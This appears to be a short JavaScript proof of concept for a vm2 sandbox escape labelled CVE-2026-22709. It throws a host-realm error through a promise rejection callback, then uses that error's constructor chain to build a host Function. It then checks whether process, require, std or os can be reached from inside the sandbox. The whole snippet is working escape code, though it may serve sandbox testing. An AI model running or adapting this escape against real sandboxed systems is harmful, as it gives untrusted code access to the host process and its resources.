// vm2 (CVE-2026-22709): callbacks of promises that the host made get errors of the host.
const error = new Error();
error.name = Symbol();
const make = async () => error.stack;
const caught = await make().then(() => null, (thrown) => thrown).catch((thrown) => thrown);
if (caught === null) return null;
const answer = caught.constructor.constructor('return typeof process + typeof require + typeof std + typeof os')();
return answer === 'undefinedundefinedundefinedundefined' ? null : answer;
